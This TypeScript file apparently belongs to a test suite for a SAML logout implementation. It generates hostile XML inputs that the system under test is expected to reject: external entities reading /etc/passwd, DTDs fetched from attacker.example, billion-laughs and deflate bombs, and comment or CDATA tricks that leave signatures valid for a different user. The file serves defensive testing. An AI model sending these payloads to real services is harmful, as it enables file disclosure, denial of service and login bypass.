import type { RefusalCode } from '#protocol/saml';
import { overPost, overPostAndSoap, overRedirect, overSoap } from './attack.js';
import type { Attack } from './attack.js';
import { signed } from './sign.js';
import { envelope, form, query, SOAP } from './wire.js';
import { SAML, SAMLP, unsigned, writeMessage } from './write-message.js';
import type { World } from './world.js';

/** What XML can do beside saying something. Texts like `{{1000 x a}}` stand for a thousand `a`. @see SLOX-11, SLOX-12, SLOX-13, SLOX-17 */
export function xmlTricks(world: World): Attack[] {
  return [...documentTypes(world), ...commentsAndTheLike(world), ...differentials(world), ...sizes(world), ...encodings(world)];
}

function documentTypes(world: World): Attack[] {
  const request = signed(writeMessage(world, 'request'), world.peer);
  const response = signed(writeMessage(world, 'response'), world.peer);
  const withEntity = request.replace(`>${world.nameId.value}<`, '>&e;<');
  const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');
  const list: [name: string, xml: string][] = [
    ['doctype', `<!DOCTYPE samlp:LogoutRequest>${request}`],
    ['doctype-in-lower-case', `<!doctype samlp:LogoutRequest>${request}`],
    ['doctype-after-the-declaration', `<?xml version="1.0"?>\n<!DOCTYPE x>${request}`],
    ['doctype-external', `<!DOCTYPE x SYSTEM "https://attacker.example/x.dtd">${request}`],
    ['external-entity', `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${withEntity}`],
    ['parameter-entity', `<!DOCTYPE x [<!ENTITY % p SYSTEM "https://attacker.example/p">%p;]>${request}`],
    ['billion-laughs', `<!DOCTYPE x [<!ENTITY l0 "ha">${laughs}<!ENTITY e "&l9;">]>${withEntity}`],
    ['attribute-default', `<!DOCTYPE x [<!ATTLIST samlp:LogoutRequest ID ID #FIXED "_request-1">]>${request}`],
  ];
  const xinclude = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"></xi:include>';
  const xsi = ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x https://attacker.example/x.xsd"';
  const located = request.replace('<samlp:LogoutRequest', `<samlp:LogoutRequest${xsi}`);
  return [
    ...list.flatMap(([name, xml]) => overPostAndSoap(name, 'SLOX-11', 'request', 'forbidden_xml', xml, 'fault Client')),
    overSoap('doctype-of-the-envelope', 'SLOX-11', 'request', 'fault Client', `<!DOCTYPE soap:Envelope>${envelope(request)}`),
    overPost('doctype', 'SLOX-11', 'response', 'forbidden_xml', `<!DOCTYPE x>${response}`),
    ...overPostAndSoap('undeclared-entity', 'SLOX-11', 'request', 'malformed', withEntity, 'fault Client'),
    ...overPostAndSoap(
      'xinclude',
      'SLOX-11',
      'request',
      'schema',
      signed(writeMessage(world, 'request', { extensions: xinclude }), world.peer),
    ),
    ...overPostAndSoap('schema-location', 'SLOX-11', 'request', 'schema', located),
    overRedirect(
      'doctype',
      'SLOX-11',
      'request',
      'forbidden_xml',
      query(`<!DOCTYPE x>${unsigned(writeMessage(world, 'request'))}`, 'request', world.peer),
    ),
    overRedirect(
      'external-entity',
      'SLOX-11',
      'response',
      'forbidden_xml',
      query(`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${unsigned(writeMessage(world, 'response'))}`, 'response', world.peer),
    ),
  ];
}

/** Comments leave a signature whole: exclusive canonicalisation drops them. @see SLOX-12 */
function commentsAndTheLike(world: World): Attack[] {
  const victim = 'admin@a.example.evil.example';
  const request = signed(writeMessage(world, 'request', { nameId: victim }), world.peer);
  const response = signed(writeMessage(world, 'response'), world.peer);
  const cut = (inserted: string) => request.replace(victim, `admin@a.example${inserted}.evil.example`);
  const list: [name: string, xml: string][] = [
    ['comment-in-name-id', cut('<!---->')],
    ['comment-in-issuer', request.replace(world.issuer, `${world.issuer}<!-- -->`)],
    ['comment-in-session-index', request.replace(world.sessionIndex, `${world.sessionIndex}<!-- -->`)],
    ['comment-between-elements', request.replace('<saml:NameID', '<!-- --><saml:NameID')],
    ['comment-before-the-message', `<!-- -->${request}`],
    ['processing-instruction-in-name-id', cut('<?x y?>')],
    ['processing-instruction-before-the-message', `<?x y?>${request}`],
    ['stylesheet', `<?xml-stylesheet href="https://attacker.example/x.xsl"?>${request}`],
    ['xml-declaration-inside', cut('<?xml version="1.0"?>')],
    ['cdata-in-name-id', request.replace(victim, `<![CDATA[${victim}]]>`)],
    ['cdata-between', cut('<![CDATA[]]>')],
  ];
  return [
    ...list.flatMap(([name, xml]) => overPostAndSoap(name, 'SLOX-12', 'request', 'forbidden_xml', xml, 'fault Client')),
    ...overPostAndSoap(
      'comment-in-status',
      'SLOX-12',
      'response',
      'forbidden_xml',
      response.replace('<samlp:Status>', '<samlp:Status><!-- -->'),
      'fault Client',
    ),
    ...overPostAndSoap('element-in-name-id', 'SLOX-12', 'request', 'schema', cut('<x></x>')),
    overRedirect(
      'comment-in-name-id',
      'SLOX-12',
      'request',
      'forbidden_xml',
      query(unsigned(writeMessage(world, 'request', { nameId: 'a<!---->b' })), 'request', world.peer),
    ),
  ];
}

/** What one parser takes, and another one takes for something else. @see SLOX-13 */
function differentials(world: World): Attack[] {
  const request = signed(writeMessage(world, 'request'), world.peer);
  const { value } = world.nameId;
  const root = (attribute: string) => request.replace('<samlp:LogoutRequest', `<samlp:LogoutRequest ${attribute}`);
  const list: [name: string, xml: string, refusal?: RefusalCode][] = [
    ['attribute-that-begins-with-xmlns', root('xmlnsx="urn:x"'), 'forbidden_xml'],
    [
      'next-line-in-name-id',
      signed(writeMessage(world, 'request', { nameId: 'a&#x85;b' }).replace('&#x85;', '\u0085'), world.peer).replace('\u0085', '&#x85;'),
      'forbidden_xml',
    ],
    ['line-separator-in-name-id', signed(writeMessage(world, 'request', { nameId: 'a\u2028b' }), world.peer), 'forbidden_xml'],
    ['attribute-twice', root('ID="_x"')],
    ['attribute-twice-by-namespace', root('xmlns:a="urn:x" xmlns:b="urn:x" a:x="1" b:x="2"')],
    ['unbound-prefix', request.replace('<saml:NameID', '<none:x></none:x><saml:NameID')],
    ['prefix-xml-bound-anew', root('xmlns:xml="urn:x"')],
    ['prefix-xmlns-bound', root('xmlns:xmlns="urn:x"')],
    ['prefix-of-an-object-prototype', request.replace('<saml:NameID', '<constructor:x></constructor:x><saml:NameID')],
    ['attribute-without-quotes', root('Consent=x')],
    ['attribute-without-value', root('Consent')],
    ['ampersand-alone', request.replace(`>${value}<`, `>${value}&<`)],
    ['text-behind-the-message', `${request}x`],
    ['element-behind-the-message', `${request}<x/>`],
    ['text-before-the-message', `x${request}`],
    ['end-tag-with-attributes', request.replace('</saml:NameID>', '</saml:NameID x="y">')],
    ['end-tag-missing', request.replace('</saml:NameID>', '')],
    ['end-tag-in-other-case', request.replace('</saml:NameID>', '</saml:nameid>')],
    ['half-a-message', request.slice(0, request.length / 2)],
    ['end-of-cdata-in-text', request.replace(`>${value}<`, `>${value}]]><`)],
    ['character-that-xml-has-not', request.replace(`>${value}<`, '>&#x1;<')],
    ['surrogate-by-number', request.replace(`>${value}<`, '>&#xD800;<')],
    ['html', '<html><body>Service unavailable</body></html>', 'schema'],
    ['nothing', '<'],
  ];
  return list.flatMap(([name, xml, refusal = 'malformed']) => overPostAndSoap(name, 'SLOX-13', 'request', refusal, xml, 'fault Client'));
}

/** @see SLOX-17 */
function sizes(world: World): Attack[] {
  const request = writeMessage(world, 'request');
  const inside = (text: string) => signed(request, world.peer).replace('<saml:NameID', `${text}<saml:NameID`);
  const huge = signed(request, world.peer).replace(`>${world.nameId.value}<`, '>{{1048576 x a}}<');
  const list: [name: string, xml: string][] = [
    ['name-id-of-a-megabyte', huge],
    ['depth-of-10000', inside('{{10000 x <x>}}{{10000 x </x>}}')],
    ['depth-of-10000-never-closed', '{{10000 x <x>}}'],
    ['too-many-elements', inside('<samlp:Extensions>{{20000 x <x/>}}</samlp:Extensions>')],
    ['too-many-attributes', inside(`<x ${Array.from({ length: 200 }, (_, n) => `a${n}=""`).join(' ')}></x>`)],
    ['too-many-attributes-in-all', inside('<samlp:Extensions>{{4000 x <x a="" b="" c="" d=""/>}}</samlp:Extensions>')],
  ];
  const packed = (text: string) => query(text, 'request', world.peer);
  return [
    ...list.flatMap(([name, xml]) => overPostAndSoap(name, 'SLOX-17', 'request', 'too_large', xml, 'fault Client')),
    overRedirect('deflate-bomb', 'SLOX-17', 'request', 'too_large', packed('a'.repeat(50_000_000))),
    overRedirect('deflate-bomb', 'SLOX-17', 'response', 'too_large', query('<'.repeat(50_000_000), 'response', world.peer)),
    overRedirect(
      'name-id-of-a-megabyte',
      'SLOX-17',
      'request',
      'too_large',
      packed(unsigned(request).replace(world.nameId.value, 'a'.repeat(1_048_576))),
    ),
    overRedirect('depth-of-10000', 'SLOX-17', 'request', 'too_large', packed('<x>'.repeat(10_000) + '</x>'.repeat(10_000))),
    overPost(
      'name-id-of-3000-characters',
      'SLOX-17',
      'request',
      'schema',
      signed(writeMessage(world, 'request', { nameId: 'a'.repeat(3_000) }), world.peer),
    ),
  ];
}

/** @see SLOX-17 */
function encodings(world: World): Attack[] {
  const request = signed(writeMessage(world, 'request'), world.peer);
  const declared = (encoding: string) => `<?xml version="1.0" encoding="${encoding}"?>${request}`;
  const utf16 = (bom: boolean) => Buffer.from(`${bom ? '\ufeff' : ''}${declared('UTF-16')}`, 'utf16le').toString('base64');
  const post = (name: string, refusal: RefusalCode, fields: Record<string, string>): Attack => ({
    ...overPost(name, 'SLOX-17', 'request', refusal, form(fields)),
    wire: 'form',
  });
  return [
    ...['UTF-16', 'UTF-7', 'ISO-8859-1', 'windows-1252', 'IBM037', 'US-ASCII'].flatMap((encoding) =>
      overPostAndSoap(`declares-${encoding.toLowerCase()}`, 'SLOX-17', 'request', 'forbidden_xml', declared(encoding), 'fault Client'),
    ),
    ...overPostAndSoap('xml-1.1', 'SLOX-17', 'request', 'forbidden_xml', `<?xml version="1.1"?>${request}`, 'fault Client'),
    overSoap(
      'declares-utf-7-at-the-envelope',
      'SLOX-17',
      'request',
      'fault Client',
      `<?xml version="1.0" encoding="UTF-7"?>${envelope(request)}`,
    ),
    post('utf-16-with-a-byte-order-mark', 'malformed', { SAMLRequest: utf16(true) }),
    post('utf-16-without-a-byte-order-mark', 'forbidden_xml', { SAMLRequest: utf16(false) }),
    post('not-utf-8', 'forbidden_xml', {
      SAMLRequest: Buffer.concat([Buffer.from('<a>'), Buffer.from([0xc3, 0x28]), Buffer.from('</a>')]).toString('base64'),
    }),
    post('not-base64', 'malformed', { SAMLRequest: '<samlp:LogoutRequest/>' }),
    post('base64-of-urls', 'malformed', { SAMLRequest: Buffer.from(`${request}\u00ff\u00ff\u00fe`).toString('base64url') }),
    post('base64-with-something-behind', 'malformed', { SAMLRequest: `${Buffer.from(request).toString('base64')}!` }),
    post('base64-twice', 'malformed', { SAMLRequest: Buffer.from(Buffer.from(request).toString('base64')).toString('base64') }),
    post('empty', 'malformed', { SAMLRequest: '' }),
    post('no-message', 'malformed', { RelayState: 'x' }),
    post('request-and-response', 'malformed', {
      SAMLRequest: Buffer.from(request).toString('base64'),
      SAMLResponse: Buffer.from(request).toString('base64'),
    }),
    {
      ...post('request-twice', 'malformed', {}),
      text: `SAMLRequest=${encodeURIComponent(Buffer.from(request).toString('base64'))}&SAMLRequest=x`,
    },
    {
      ...post('relay-state-twice', 'malformed', {}),
      clause: 'SLOX-18',
      text: `SAMLRequest=${encodeURIComponent(Buffer.from(request).toString('base64'))}&RelayState=a&RelayState=b`,
    },
    overPost('response-in-the-field-of-a-request', 'SLO-47', 'request', 'schema', signed(writeMessage(world, 'response'), world.peer)),
    overPost('request-in-the-field-of-a-response', 'SLO-47', 'response', 'schema', request),
    ...soapEnvelopes(request),
  ];
}

/** @see SLO-57, SLO-59 */
function soapEnvelopes(request: string): Attack[] {
  const soap = (name: string, refusal: Attack['refusal'], text: string) => overSoap(name, 'SLO-57', 'request', refusal, text);
  const block = (attributes: string) =>
    envelope(request, { header: `<soap:Header><x:x xmlns:x="urn:x"${attributes}></x:x></soap:Header>` });
  const fault = '<soap:Fault><faultcode>soap:Server</faultcode><faultstring>no</faultstring></soap:Fault>';
  return [
    soap('soap-1.2', 'fault VersionMismatch', envelope(request, { namespace: 'http://www.w3.org/2003/05/soap-envelope' })),
    soap('another-envelope', 'fault VersionMismatch', envelope(request, { namespace: 'urn:x' })),
    soap('no-envelope', 'fault Client', request),
    soap('empty-body', 'fault Client', envelope('')),
    soap('text-in-the-body', 'fault Client', envelope(`x${request}`)),
    soap('header-behind-the-body', 'fault Client', envelope(request, { behind: '<soap:Header></soap:Header>' })),
    soap('header-that-must-be-understood', 'fault MustUnderstand', block(' soap:mustUnderstand="1"')),
    soap(
      'header-for-the-next-that-must-be-understood',
      'fault MustUnderstand',
      block(` soap:actor="http://schemas.xmlsoap.org/soap/actor/next" soap:mustUnderstand="1"`),
    ),
    soap('another-message', 'fault Client', envelope(`<samlp:ArtifactResolve xmlns:samlp="${SAMLP}"></samlp:ArtifactResolve>`)),
    soap('an-assertion', 'fault Client', envelope(`<saml:Assertion xmlns:saml="${SAML}"></saml:Assertion>`)),
    overSoap('fault', 'SLO-59', 'response', 'malformed', envelope(fault)),
    soap('nested-envelope', 'fault Client', envelope(envelope(request))),
    soap('body-of-another-namespace', 'fault Client', `<soap:Envelope xmlns:soap="${SOAP}"><Body>${request}</Body></soap:Envelope>`),
  ];
}
